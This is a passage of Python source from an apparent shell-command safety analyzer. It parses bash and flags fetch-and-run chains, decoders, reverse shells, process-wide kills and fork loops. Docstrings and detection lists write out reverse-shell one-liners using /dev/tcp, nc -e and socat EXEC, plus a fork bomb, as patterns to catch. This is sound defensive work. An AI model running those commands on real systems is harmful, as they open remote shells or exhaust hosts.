                return Word(tuple(dict.fromkeys(alts))[:MAX_ALTS], text,
                            tainted=operand.tainted or bool(taint))  # fmt: skip
            if kind == "+":
                return Word(tuple(dict.fromkeys(("", *operand.alts))), text,
                            tainted=operand.tainted)  # fmt: skip
            return Word(value, text, **taint)
        strip = re.match(r"^(%%|%|##|#)(.*)$", rest, re.S)
        if (
            strip
            and all(U not in v for v in value)
            and not any(c in strip.group(2) for c in "*?[$`")
        ):
            pattern = strip.group(2)
            out = []
            for v in value:
                if strip.group(1).startswith("%") and v.endswith(pattern):
                    v = v[: len(v) - len(pattern)] if pattern else v
                elif strip.group(1).startswith("#") and v.startswith(pattern):
                    v = v[len(pattern) :]
                out.append(v)
            return Word(tuple(out), text, **taint)
        return Word((U,), text, **taint)


#: Programs ``run`` follows into (code they read, commands they start).
_FOLLOWED = frozenset({"source", ".", "xargs", "find"})
#: Programs whose effect on the walk (directory, variables, streams) is followed.
_EFFECTS = frozenset(
    {"cd", "pushd", "chdir", "set", "read", "mapfile", "readarray", "echo", "printf", "cat",
     "tee", "head", "tail", "less", "more", "sort", "uniq", "cut", "awk", "sed", "grep", "egrep",
     "fgrep", "xargs", "tac", "column", "jq", "yq", "dd", "pv", "stdbuf", "busybox", "yes", "ps",
     "pgrep", "pidof", "ls", "find", "seq", "cp", "mv", "install", "ln"}
) | FETCHERS | DECODERS  # fmt: skip


def _substitute(word: Word, token: str, value: Word) -> Word:
    if not any(token in alt for alt in word.alts):
        return word
    alts = tuple(dict.fromkeys(a.replace(token, v) for a in word.alts for v in value.alts))
    return Word(alts[:MAX_ALTS], word.text, tainted=word.tainted or value.tainted,
                pids=value.pids)  # fmt: skip


def _find_narrowed(values: Sequence[str]) -> bool:
    """A name or path test that does not match everything narrows what find acts on."""
    for i, value in enumerate(values[:-1]):
        if value in ("-name", "-iname", "-path", "-ipath", "-wholename", "-iwholename",
                     "-regex", "-iregex", "-lname", "-ilname", "-newer", "-samefile",
                     "-inum"):  # fmt: skip
            pattern = values[i + 1]
            if value in ("-regex", "-iregex") and pattern in (".*", ".+", "^.*$"):
                continue
            if pattern.strip("*."):
                return True
    return False


#: A loop over more values than this that starts background jobs without waiting is a fork loop.
_MANY = 1000


def _many_values(text: str) -> bool:
    braces = re.search(r"\{(-?\d+)\.\.(-?\d+)(?:\.\.\d+)?\}", text)
    if braces and abs(int(braces.group(2)) - int(braces.group(1))) > _MANY:
        return True
    if re.search(r"\bseq\b[^)`]*\binf(?:inity)?\b", text, re.I):
        return True
    seq = re.search(r"\bseq\b[^)`]*?(\d+)\s*[)`]", text)
    return bool(seq and int(seq.group(1)) > _MANY)


def _sub_env(env: _Env) -> _Env:
    """A command substitution runs in a subshell: its assignments do not leak out."""
    return _Env(vars=dict(env.vars), positional=env.positional, cwd=env.cwd,
                functions=env.functions, files=env.files, calls=env.calls, active=env.active)  # fmt: skip


# --- stream helpers -----------------------------------------------------------------------


def _produces_taint(cmd: Cmd) -> bool:
    program = cmd.program
    args = cmd.words[1:]
    return (program in FETCHERS and _fetch_to_stdout(program, args)) or _is_decoder(program, args)


_STDOUT = ("-", "/dev/stdout", "/dev/fd/1", "/proc/self/fd/1")


def _fetch_to_stdout(program: str, args: Sequence[Word]) -> bool:
    values = [w.value for w in args]
    if program == "curl":
        out = _curl_output(values)
        if out is not None:
            return out in _STDOUT
        return not any(v in ("-o", "-O", "--output", "--remote-name", "--remote-name-all")
                       or (v.startswith("-") and not v.startswith("--") and ("o" in v or "O" in v))
                       or v.startswith("--output=") for v in values)  # fmt: skip
    if program == "wget":
        for i, v in enumerate(values):
            if v in ("-O", "--output-document") and i + 1 < len(values):
                return values[i + 1] in ("-", "/dev/stdout", "/dev/fd/1", "/proc/self/fd/1")
            if v.startswith("--output-document="):
                return v.partition("=")[2] in _STDOUT
            if v.startswith("-") and not v.startswith("--") and "O" in v:
                if v.endswith("O-"):
                    return True
                if v.endswith("O") and i + 1 < len(values):
                    return values[i + 1] in _STDOUT
        return False
    if program in ("scp", "rsync", "ftp", "tftp", "aria2c"):
        return False
    if program in ("lynx", "links", "w3m"):
        return any(v in ("-dump", "-source") for v in values)
    return True


def _curl_output(values: Sequence[str]) -> str | None:
    """curl's ``-o FILE`` in any spelling (``-o-``, ``-so -``, ``-fsSLo FILE``, ``--output=``)."""
    for i, v in enumerate(values):
        if v in ("-o", "--output") and i + 1 < len(values):
            return values[i + 1]
        if v.startswith("--output="):
            return v.partition("=")[2]
        if v.startswith("-") and not v.startswith("--") and "o" in v[1:]:
            rest = v[v.index("o", 1) + 1 :]
            if rest:
                return rest
            return values[i + 1] if i + 1 < len(values) else None
    return None


def _fetch_output_file(program: str, args: Sequence[Word]) -> str | None:
    """Where curl or wget saves what it fetched, in the directory ``wget -P`` and
    ``curl --output-dir`` name."""
    name = _fetch_output_name(program, args)
    if name is None:
        return None
    folder = (
        option_word(args, "P", ("directory-prefix",))
        if program == "wget"
        else option_word(args, "", ("output-dir",))
        if program == "curl"
        else None
    )
    if folder is None or name.startswith("/") or name in _STDOUT:
        return name
    return posixpath.join(folder.value, name)


def _fetch_output_name(program: str, args: Sequence[Word]) -> str | None:
    values = [w.value for w in args]
    if program == "curl" and _curl_output(values) not in (None, *_STDOUT):
        return _curl_output(values)
    urls = [v for v in values if "://" in v or (not v.startswith("-") and "." in v)]
    remote = posixpath.basename(urls[-1].split("?", 1)[0].rstrip("/")) if urls else ""
    if program == "curl" and any(
        v in ("-O", "--remote-name", "--remote-name-all")
        or (v.startswith("-") and not v.startswith("--") and "O" in v)
        for v in values
    ):
        return remote or None
    if program == "wget" and not any(
        v in ("-O", "--output-document") or v.startswith("--output-document=")
        or (v.startswith("-") and not v.startswith("--") and "O" in v)
        for v in values
    ):  # fmt: skip
        return remote or "index.html"
    for i, v in enumerate(values):
        if program == "curl" and v in ("-o", "--output") and i + 1 < len(values):
            return values[i + 1]
        if program == "wget" and v in ("-O", "--output-document") and i + 1 < len(values):
            return values[i + 1]
        if program == "wget" and v.startswith("-") and v.endswith("O") and i + 1 < len(values):
            return values[i + 1]
    return None


def _copied_here(program: str, args: Sequence[Word]) -> list[str]:
    """The local files ``scp``/``rsync`` copy from another host and ``aria2c`` downloads: the
    destination, or the source's name inside it (it may be a directory)."""
    values = [w.value for w in args]
    if program == "aria2c":
        name = option_word(args, "o", ("out",))
        folder = option_word(args, "d", ("dir",))
        urls = [v for v in values if "://" in v]
        remote = posixpath.basename(urls[-1].split("?", 1)[0].rstrip("/")) if urls else ""
        base = name.value if name is not None else remote
        if not base:
            return []
        return [posixpath.join(folder.value, base) if folder is not None else base]
    if program not in ("scp", "rsync"):
        return []
    with_value = "cFiJlPoS" if program == "scp" else "efT"
    operands = _skip_options_all(args, with_value)
    if len(operands) < 2 or ":" in operands[-1] or not any(":" in v for v in operands[:-1]):
        return []
    dest = operands[-1]
    names = [posixpath.basename(v.split(":", 1)[1].rstrip("/")) for v in operands[:-1] if ":" in v]
    return [dest, *(posixpath.join(dest, n) for n in names if n)]


def _skip_options_all(args: Sequence[Word], with_value: str) -> list[str]:
    """The operands among ``args``, options (and the values of ``with_value``'s) left out."""
    out: list[str] = []
    skip = False
    for word in args:
        value = word.value
        if skip:
            skip = False
        elif value.startswith("-") and len(value) > 1 and not value.startswith("--"):
            skip = value[-1] in with_value
        elif not value.startswith("--"):
            out.append(value)
    return out


_RUNS_INPUT = re.compile(
    r"\b(?:exec|eval|system|compile|popen|spawn|subprocess|qx|fork)\b|`|\|\s*\""
)


def _reverse_shell(cmd: Cmd) -> bool:
    """``bash -i >& /dev/tcp/h/p 0>&1``, ``nc -e /bin/sh h p``, ``ncat --sh-exec``,
    ``socat TCP:h:p EXEC:sh``: a shell reading commands from the network."""
    program = cmd.program
    values = [w.value for w in cmd.words[1:]]
    if program in SHELLS:
        return any(t.value.startswith(("/dev/tcp/", "/dev/udp/")) for _, t in cmd.redirects)
    if program in ("nc", "ncat", "netcat"):
        return any(
            v in ("-e", "-c", "--exec", "--sh-exec", "--lua-exec")
            or v.startswith(("--exec=", "--sh-exec=", "--lua-exec="))
            for v in values
        )
    if program == "socat":
        return any(v.upper().startswith(("EXEC:", "SYSTEM:")) for v in values)
    return False


def _runs_its_input(program: str, args: Sequence[Word]) -> bool:
    """An interpreter or awk whose inline code runs text as code (``exec(sys.stdin.read())``,
    ``system($0)``, ``print | "sh"``): fed fetched data, that is fetched code run."""
    if program not in INTERPRETERS and program not in ("awk", "gawk", "mawk", "nawk"):
        return False
    return any(_RUNS_INPUT.search(w.value) for w in args if not w.value.startswith("-"))


def _is_decoder(program: str, args: Sequence[Word]) -> bool:
    values = [w.value for w in args]
    flags = "".join(v[1:] for v in values if v.startswith("-") and not v.startswith("--"))
    if program in ("base64", "base32", "basenc"):
        return "d" in flags or "D" in flags or "--decode" in values
    if program == "xxd":
        return "r" in flags or "--revert" in values
    if program == "openssl":
        return (
            bool(values)
            and values[0] in ("enc", "base64", "smime", "cms", "des", "aes-256-cbc")
            and ("-d" in values or (values[0] == "base64" and "-d" in values))
        )
    if program in ("gzip", "bzip2", "xz", "zstd", "lz4"):
        return "d" in flags or "--decompress" in values or "--uncompress" in values
    if program in ("gunzip", "zcat", "bzcat", "bunzip2", "unxz", "xzcat", "zstdcat", "unzstd",
                   "lz4cat", "uudecode", "funzip"):  # fmt: skip
        return True
    if program == "unzip":
        return "p" in flags
    if program in ("gpg", "age"):
        return "d" in flags or "--decrypt" in values
    return program in ("tr", "rev")


def _lists_every_process(program: str, args: Sequence[Word]) -> bool:
    values = [w.value for w in args]
    if program == "ps":
        flags = "".join(v.lstrip("-") for v in values if not v.startswith("--"))
        return bool(set(flags) & {"e", "A"}) or "ax" in "".join(sorted(flags)) or "aux" in values
    if program == "pidof":
        return any(v in ("systemd", "init", "/sbin/init", "/lib/systemd/systemd") for v in values)
    if program == "pgrep":
        if "--inverse" in values or any(
            v.startswith("-") and not v.startswith("--") and "v" in v for v in values
        ):
            return True  # every process but the ones matched, as ``pkill -v``
        operands, users, i = [], set(), 0
        while i < len(values):  # option values (``-u root``) are no patterns
            v = values[i]
            if v in (
                "-u",
                "-U",
                "-g",
                "-G",
                "-P",
                "-s",
                "-t",
                "-F",
                "--euid",
                "--uid",
                "--group",
                "--pgroup",
                "--parent",
                "--session",
                "--terminal",
                "--pidfile",
            ):
                if v in ("-u", "-U", "--euid", "--uid") and i + 1 < len(values):
                    users.update(values[i + 1].split(","))
                i += 2
                continue
            if v.startswith(("-u", "-U")) and len(v) > 2:
                users.update(v[2:].split(","))
            elif not v.startswith("-"):
                operands.append(v)
            i += 1
        if not operands and users & {"root", "0"}:
            return True
        return (
            not operands
            or any(matches_everything(v) for v in operands)
            or any(v in ("systemd", "init") for v in operands)
        )
    return False


def _matches_every_pid(args: Sequence[Word]) -> bool:
    """``grep PATTERN`` lets every line that is a pid through (``^[0-9]+$``, ``[0-9]``)."""
    from knm.core.patterns import compile_pattern

    patterns = [w.value for w in args if not w.value.startswith("-")][:1]
    for pattern in patterns:
        try:
            regex = compile_pattern(pattern)
        except ValueError:
            return False
        return all(regex.search(pid) for pid in ("1", "42", "4096", "31337"))
    return False


def matches_everything(pattern: str) -> bool:
    """Whether a process-name regular expression matches every process name (linear-time RE2)."""
    from knm.core.patterns import compile_pattern

    try:
        regex = compile_pattern(pattern)
    except ValueError:
        return False
    # Every process a node needs (a pattern sparing only some odd name still kills these).
    names = ("systemd", "sshd", "bash", "containerd", "kubelet", "dbus-daemon", "journald")
    return all(regex.search(name) for name in names)


def _echo_output(words: Sequence[Word]) -> str | None:
    """The text ``echo``/``printf`` with these words prints, if it is known."""
    if not words:
        return None
    program = program_name(words[0].value)
    args = list(words[1:])
    if any(w.unknown or w.tainted for w in args):
        return None
    values = [w.alts[0] for w in args]
    if program == "echo":
        escapes = False
        newline = True
        while values and re.fullmatch(r"-[neE]+", values[0]):
            escapes = escapes or "e" in values[0]
            newline = newline and "n" not in values[0]
            values = values[1:]
        text = " ".join(values)
        if escapes:  # echo -e reads ``\0NNN`` as octal (``$'..'`` reads ``\NNN``)
            text = re.sub(r"\\0([0-7]{1,3})", lambda m: chr(int(m.group(1), 8)), text)
        return (ansi_c(text) if escapes else text) + ("\n" if newline else "")
    if not values:
        return None
    fmt, rest = values[0], values[1:]
    if "%" in fmt.replace("%%", ""):
        split = re.split(r"%[-0-9.]*([sbdq])", fmt)
        pieces, kinds = split[0::2], split[1::2]
        if len(pieces) - 1 >= 1 and rest:
            out = []
            for i, piece in enumerate(pieces):
                out.append(ansi_c(piece))
                if i < len(pieces) - 1 and i < len(rest):
                    # %b reads escapes in its argument (``\0NNN`` octal too); %s takes it as is
                    arg = rest[i]
                    if kinds[i] == "b":
                        arg = ansi_c(re.sub(r"\\0([0-7]{1,3})",
                                             lambda m: chr(int(m.group(1), 8)), arg))  # fmt: skip
                    out.append(arg)
            return "".join(out)
        return ansi_c(re.sub(r"%[-0-9.]*[sbdq]", "", fmt))
    return ansi_c(fmt.replace("%%", "%"))


def _eval_of_env_setup(code: Word) -> bool:
    return (
        bool(code.producers)
        and all(
            p in ENV_SETUP or p in ("kubectl", "helm", "echo", "printf") for p in code.producers
        )
        and not code.tainted
        and code.producers[0] in ENV_SETUP | {"kubectl", "helm"}
        and (
            code.producers[0] in ENV_SETUP or "completion" in code.text
        )  # ``kubectl get cm -o jsonpath=..`` is data from the cluster, not set-up
    )


_ARITH = re.compile(r"[\d\s+\-*/%()]{1,64}")


def _arithmetic(expression: str) -> str | None:
    """The value of ``$(( ))`` over integer literals (``-1``, ``3 * (4 + 1)``), else None."""
    if not _ARITH.fullmatch(expression) or "**" in expression or not expression.strip():
        return None
    try:
        # Safe: at most 64 characters of digits, + - * / % ( ) and blanks, no ``**``.
        value = eval(expression.replace("/", "//"), {"__builtins__": {}}, {})
    except Exception:  # ZeroDivisionError, SyntaxError ...
        return None
    return str(value) if isinstance(value, int) and abs(value) < 10**18 else None


def _herestring(word: Word) -> Stream:
    if word.tainted:
        return Stream(tainted=True)
    value = word.alts[0] if word.alts else ""
    return Stream(text=value.replace(U, _PLACEHOLDER) + "\n")


def _unknown_command_position(tree: Tree) -> bool:
    """Whether an unknown value (``$__knm_unknown``) would be run as a command in ``tree``."""
    for node in _walk(tree.root_node):
        if node.type == "command_name" and "$__knm_unknown" in node_text(node):
            return True
    return False


# --- structure helpers --------------------------------------------------------------------


def _chunks_parse(
    text: str, offset: int, marks: Sequence[tuple[int, int, int]], parse: Callable[[str], Tree]
) -> bool:
    """Whether each chunk of a long piece (``text``, at ``offset``) between two of the lexer's
    marks of the same key (``split``: blanks between whole arguments, at any depth, ends of
    statements in a body or condition, ``&&``/``||`` between terms of a ``[[ ]]``) parses
    without an error alone: as the arguments of ``:``, as it is (statements) or inside ``[[
    ]]`` (terms). tree-sitter-bash's error recovery can be quadratic in the length of
    the text after the error (its scanner reads ahead to the next quote, ``}`` or ``$name`` at
    every token), so an error in a long command is found in chunks, each in linear time,
    before the whole is parsed; the whole is parsed only when every chunk is clean (or there
    is none)."""
    end = offset + len(text)
    first = bisect.bisect_left(marks, (offset, -1, -1))
    last = bisect.bisect_right(marks, (end, 1 << 62, 1 << 62))
    commands: dict[tuple[int, int], list[int]] = {}
    for position, key, form in marks[first:last]:
        commands.setdefault((key, form), []).append(position - offset)
    chunks = [
        (b - a, a, b, form)
        for (_, form), positions in commands.items()
        for a, b in itertools.pairwise(sorted(positions))
    ]
    # The shortest first: a chunk of arguments may hold a whole ``<( )`` whose statements are
    # chunks of their own (an error is then found in one of those, not in the long one).
    for _, a, b, form in sorted(chunks):
        chunk = text[a:b]
        if form == ARGUMENTS:
            chunk = f": {chunk}"
        elif form == TERMS:
            terms = chunk.lstrip(" \t\n")
            chunk = f"[[ {terms[2:] if terms[:2] in ('&&', '||') else terms} ]]"
        if parse(chunk).root_node.has_error:
            return False
    return True


def _followed_by_amp(node: Node) -> bool:
    sibling = node.next_sibling
    return sibling is not None and sibling.type == "&"


def _is_statement(node: Node) -> bool:
    return node.is_named and node.type not in ("comment", "heredoc_body", "heredoc_start",
                                               "heredoc_end", "word")  # fmt: skip


def _walk(node: Node) -> Iterator[Node]:
    stack = [node]
    while stack:
        current = stack.pop()
        yield current
        stack.extend(reversed(current.children))


def _heredoc(node: Node) -> tuple[str, list[Node]]:
    """A here-doc's body (as written: an unquoted one's ``$X`` stays an unknown value when the
    body is walked as code) and what tree-sitter nests after it (``cat <<EOF | sh``)."""
    body = ""
    rest: list[Node] = []
    for child in node.named_children:
        if child.type == "heredoc_body":
            body = node_text(child)
        elif child.type not in ("heredoc_start", "heredoc_end"):
            rest.append(child)
    return body, rest


_ALWAYS_TRUE = re.compile(r"^(?:true|:|/bin/true|/usr/bin/true|\[\s*\S+\s*\]|\[\[\s*\S+\s*\]\]|"
                          r"\(\(\s*[1-9][0-9]*\s*\)\)|test\s+\S+|let\s+1|"
                          r"sleep\s+0*(?:\.0*)?[smhd]?)$")  # fmt: skip
#: ``sleep 0``: succeeds at once, so it neither ends nor paces a loop.
_NO_WAIT = re.compile(r"^sleep\s+0*(?:\.0*)?[smhd]?\s*(?:$|[;&|])")
_ALWAYS_FALSE = re.compile(r"^(?:false|/bin/false|/usr/bin/false|!\s*true|!\s*:)$")


_CONSTANT_TEST = re.compile(
    r"^(?:\[|test|\[\[)\s+([\w.:/+-]+)\s+(=|==|!=|-eq|-ne|-lt|-le|-gt|-ge)\s+([\w.:/+-]+)"
    r"\s*(?:\]|\]\])?$"
)


def _constant(text: str) -> bool | None:
    """The value of a test of two literal words (``[ 1 = 2 ]``, ``[ a != b ]``), else None."""
    match = _CONSTANT_TEST.match(text)
    if match is None:
        return None
    a, op, b = match.groups()
    if op in ("=", "=="):
        return a == b
    if op == "!=":
        return a != b
    if not (a.lstrip("-").isdigit() and b.lstrip("-").isdigit()):
        return None
    x, y = int(a), int(b)
    return {"-eq": x == y, "-ne": x != y, "-lt": x < y, "-le": x <= y, "-gt": x > y,
            "-ge": x >= y}[op]  # fmt: skip


def _always(conditions: list[Node], until: bool, stdin: Stream) -> bool:
    if not conditions:
        return False
    text = node_text(conditions[-1]).strip().rstrip(";").strip()
    constant = _constant(text)
    if constant is not None:
        return constant != until
    if until:
        return bool(_ALWAYS_FALSE.match(text))
    if _ALWAYS_TRUE.match(text) and not re.match(r"^\[\s*-", text):
        return True
    return text.startswith("read") and stdin.endless


def _throttled(body: Node) -> bool:
    """A loop body that waits (``sleep``, ``wait``, ``read``) or leaves is no fork loop."""
    for child in body.named_children:
        node = child
        if node.type == "command" and _followed_by_amp(node):
            continue
        text = node_text(node).lstrip()
        if re.match(r"^(?:sleep|wait|read|break|exit|return|timeout\s+\S+\s+sleep)\b", text) and (
            not _NO_WAIT.match(text)
        ):
            return True
    return False


def _self_spawning(name: str, body: Node) -> bool:
    """A function that starts itself asynchronously (``f(){ f|f& }``, ``f(){ f & f; }``):
    a fork bomb whatever it is called. Plain recursion (tree walks) is fine."""
    selves = {name, "$FUNCNAME", "${FUNCNAME}", "${FUNCNAME[0]}"}
    for node in _walk(body):
        if node.type != "command":
            continue
        head = node.child_by_field_name("name")
        if head is None:
            continue
        words = [node_text(head).strip("\"'")]
        if program_name(words[0]) in UNWRAPS:  # ``nohup f &``, ``setsid f``
            words += [node_text(a).strip("\"'") for a in node.children_by_field_name("argument")]
        if not selves & set(words):
            continue
        parent = node.parent
        current = node
        first = node_text(head).strip("\"'")
        args = [node_text(a) for a in node.children_by_field_name("argument")]
        if (first == "setsid" and any(a in ("-f", "--fork") for a in args)) or first in (
            "daemonize",
            "systemd-run",
        ):
            return True  # they start the command and return at once
        while current is not None and current != body:
            if _followed_by_amp(current):
                return True
            parent = current.parent
            if parent is not None and parent.type == "pipeline":
                return True
            current = parent
    return False


_GLOB_CHARS = re.compile(r"[*?\[]")


def _unlimited_jobs(args: Sequence[Word], short: str, long: str) -> bool:
    """``-P0``, ``-P 0``, ``--max-procs=0``, ``-j0``: as many jobs at once as there is input."""
    values = [w.value for w in args]
    for i, v in enumerate(values):
        for flag in short:
            if v == f"-{flag}" and i + 1 < len(values) and values[i + 1] in ("0", "0%"):
                return True
            if v in (f"-{flag}0", f"-{flag}0%"):
                return True
        if v in (f"--{long}=0", f"--{long}=0%") or (
            v == f"--{long}" and i + 1 < len(values) and values[i + 1] == "0"
        ):
            return True
    return False


def _find_names(values: Sequence[str]) -> list[str]:
    """The patterns of ``-name``/``-iname`` tests (what ``{}`` ends in), when every narrowing
    test is one of them."""
    names = []
    for i, value in enumerate(values[:-1]):
        if value in ("-name", "-iname"):
            names.append(values[i + 1])
        elif value in ("-path", "-ipath", "-wholename", "-iwholename", "-regex", "-iregex",
                       "-lname", "-ilname", "-newer", "-samefile", "-inum"):  # fmt: skip
            return []
    return names if all("/" not in n for n in names) else []


def _find_itself(values: Sequence[str]) -> bool:
    """find acts on each start itself too, unless ``-mindepth`` skips it."""
    return not any(
        v == "-mindepth" and n.isdigit() and int(n) >= 1 for v, n in itertools.pairwise(values)
    )


def _find_starts(values: Sequence[str]) -> list[str]:
    args = list(values)
    while args and (args[0] in ("-H", "-L", "-P") or args[0].startswith(("-O", "-D"))):
        args = args[2:] if args[0] == "-D" else args[1:]
    starts = []
    for arg in args:
        if arg.startswith("-") or arg in ("(", "!", ","):
            break
        starts.append(arg)
    return starts or ["."]


# --- quoting helpers ----------------------------------------------------------------------


def _tilde(value: str, env: _Env) -> str:
    if value == "~" or value.startswith("~/"):
        return env.vars.get("HOME", ("/root",))[0] + value[1:]
    if value == "~+" or value.startswith("~+/"):
        return env.cwd + value[2:]
    if value == "~-" or value.startswith("~-/"):
        return env.vars.get("OLDPWD", (U,))[0] + value[2:]
    match = re.match(r"^~([A-Za-z_][\w.-]*)(/.*)?$", value)
    if match:
        home = "/root" if match.group(1) == "root" else f"/home/{match.group(1)}"
        return f"{home}{match.group(2) or ''}"
    return value


_EXTGLOB = re.compile(r"(?:(?<=[^\s$=(])[@!]|(?<=/)[*+?])\([^()\s]*\)")
_PLACEHOLDER = "$__knm_unknown"
_ENDLESS_FILES = frozenset({"/dev/zero", "/dev/urandom", "/dev/random", "/dev/full"})
_ARRAY_ALL = re.compile(r'"?\$\{([A-Za-z_][A-Za-z0-9_]*)\[[@*]\]\}"?')
